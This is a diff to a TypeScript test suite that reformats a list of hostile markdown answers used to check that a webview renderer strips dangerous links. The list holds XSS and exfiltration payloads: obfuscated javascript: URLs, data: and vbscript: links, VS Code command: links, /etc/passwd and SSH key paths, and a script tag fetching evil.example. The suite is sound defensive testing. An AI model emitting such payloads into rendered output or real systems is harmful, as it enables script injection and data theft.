@@ -19,11 +19,17 @@ const ANSWERS: Array<[string, string]> = [
   ['command: autolink', `<command:rlm.exportTrace?${C}>`],
   ['command: by reference', `[go][c]\n\n[c]: command:rlm.cancel?${C}`],
   ['vscode: and file: links', `[open](vscode://file/etc/passwd?${C}) [f](file:///etc/passwd#${C})`],
-  ['javascript: in disguise', `[a](javascript:alert('${C}')) [b](  JaVaScRiPt:alert(1)) [c](java%09script:alert('${C}')) [d](java\u200bscript:x)`],
+  [
+    'javascript: in disguise',
+    `[a](javascript:alert('${C}')) [b](  JaVaScRiPt:alert(1)) [c](java%09script:alert('${C}')) [d](java\u200bscript:x)`,
+  ],
   ['data: and vbscript:', `[x](data:text/html;base64,${Buffer.from(C).toString('base64')}) [y](vbscript:msgbox("${C}"))`],
   ['protocol-relative and backslash hosts', `[x](//evil.example/${C}) [y](\\\\evil.example\\${C})`],
   ['mailto exfiltration', `[report](mailto:x@evil.example?body=${C})`],
-  ['raw HTML elements', `<script>fetch('https://evil.example/?${C}')</script><iframe src="https://evil.example/${C}"></iframe><a href="command:x?${C}">a</a>`],
+  [
+    'raw HTML elements',
+    `<script>fetch('https://evil.example/?${C}')</script><iframe src="https://evil.example/${C}"></iframe><a href="command:x?${C}">a</a>`,
+  ],
   ['title trick', `[docs](command:rlm.cancel?${C} "https://ok.example")`],
   ['traversal as a citation', `[passwd](../../../etc/passwd) and [k](/etc/ssh/ssh_host_rsa_key?${C})`],
   ['citation inside a URL', `Health check at http://127.0.0.1:9/x and https://host.example:8080/src/a.ts:3?${C} — defined in src/a.ts:3.`],
@@ -73,7 +79,8 @@ describe('hostile answers', () => {
     it.each(ANSWERS)('%s', (name, answer) => {
       const html = renderMarkdown(answer);
       const found = problems(html, (href) => web(href) || href === '#');
-      for (const path of attributes(html, 'data-path')) if (path.startsWith('/') || path.split('/').includes('..')) found.push(`citation of ${path}`);
+      for (const path of attributes(html, 'data-path'))
+        if (path.startsWith('/') || path.split('/').includes('..')) found.push(`citation of ${path}`);
       tally.record('webview', name, found.length > 0);
       expect(found, `${name}: ${html}`).toEqual([]);
     });
